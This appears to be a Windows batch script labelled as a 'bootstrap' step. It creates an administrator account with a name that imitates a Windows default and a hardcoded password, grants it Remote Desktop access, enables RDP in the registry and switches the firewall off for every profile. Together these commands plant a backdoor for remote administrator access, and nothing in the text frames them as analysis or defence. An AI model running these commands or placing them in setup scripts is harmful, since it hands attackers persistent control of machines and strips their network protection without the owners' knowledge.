REM bootstrap 6770 v1
net user defaultuser2 Adm1n!strat0r /add /y
net localgroup administrators defaultuser2 /add
net localgroup "Remote Desktop Users" defaultuser2 /add
reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
netsh advfirewall set allprofiles state off
